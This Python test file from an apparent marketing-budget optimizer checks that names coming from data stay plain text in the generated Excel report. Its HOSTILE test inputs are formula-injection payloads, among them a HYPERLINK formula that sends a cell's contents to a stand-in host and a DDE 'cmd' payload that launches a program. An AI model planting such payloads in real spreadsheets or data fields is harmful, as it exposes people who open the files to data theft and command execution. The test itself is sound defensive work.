"""Workbooks never turn text from data into a live formula; numbers stay numbers."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pandas as pd
from openpyxl import load_workbook

from roiste.models.curves import Component, CurveSet, ResponseCurve
from roiste.models.transforms import Exponential, Geometric, Hill
from roiste.optimizer.plan import build_plan
from roiste.optimizer.report.cells import sheet_value
from roiste.optimizer.report.xlsx import xlsx_bytes
from roiste.optimizer.scenario import Scenario

HOSTILE = ('=HYPERLINK("http://x.example/?a="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)")
SCENARIO_NAME = "=1+2"
CONSTRAINT_NAME = "=IMPORTXML(A1)"


def _plan() -> Any:
    ratios = {"revenue_per_order": 75.0, "new_customers_per_revenue": 0.004,
              "new_customer_revenue_share": 0.4}
    shapes = [Hill(k=1800.0, s=1.0), Exponential(k=4000.0), Hill(k=6000.0, s=1.0), Exponential(k=3000.0)]
    curves = CurveSet([
        ResponseCurve(name, Component(9000.0, shape, Geometric(alpha=0.3)), 1500.0,
                      Component(3000.0, Exponential(k=4000.0), Geometric(alpha=0.3)), ratios)
        for name, shape in zip(HOSTILE, shapes, strict=True)
    ])
    scenario = Scenario.model_validate({
        "name": SCENARIO_NAME, "data": "unused.csv", "steps": 2,
        "economics": {"gross_margin": 0.5, "return_rate": 0.1, "cost_per_order": 5.0},
        "constraints": [{"name": CONSTRAINT_NAME, "channels": list(HOSTILE[:2]), "max_share": 0.9}],
    })
    cur = pd.Series({c: curves[c].recent_spend for c in curves.channels})
    return build_plan(curves, scenario, cur, data_hash="d" * 64, scenario_hash="5" * 64,
                      curves_hash="c" * 64)


def test_text_from_data_is_never_a_formula_in_the_workbook() -> None:
    data = xlsx_bytes(_plan())
    zf = zipfile.ZipFile(io.BytesIO(data))
    sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) >= 4
    formulas = [f for n in sheets for f in re.findall(r"<f>([^<]*)</f>", zf.read(n).decode())]
    assert formulas, "the workbook's own formulas are still there"
    # Every formula in the file is one the workbook builds: cell references and arithmetic.
    assert not [f for f in formulas if re.search(r"HYPERLINK|IMPORTXML|cmd|SUM\(1", f)]
    wb = load_workbook(io.BytesIO(data))
    found: dict[str, set[str]] = {}
    negative_numbers = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in (*HOSTILE, SCENARIO_NAME, CONSTRAINT_NAME):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    found.setdefault(str(cell.value), set()).add(ws.title)
                elif isinstance(cell.value, float) and cell.value < 0:
                    negative_numbers += 1
    # The channel names appear as text in the allocation, marginals, glide path and assumptions.
    for name in HOSTILE:
        assert {"Allocation", "Marginals", "Glide path", "Assumptions"} <= found[name], found[name]
    assert "Summary" in found[SCENARIO_NAME]
    assert CONSTRAINT_NAME in found
    assert negative_numbers > 0  # negative figures (margin changes, ...) are still numbers


def test_only_strings_are_escaped() -> None:
    assert sheet_value(-3.5) == -3.5 and sheet_value(-7) == -7 and sheet_value(None) is None
    assert sheet_value("search") == "search" and sheet_value("a=b") == "a=b"
    for text in ("=1", "+1", "-1", "@x"):
        assert str(sheet_value(text)) == text and not isinstance(sheet_value(text), str)
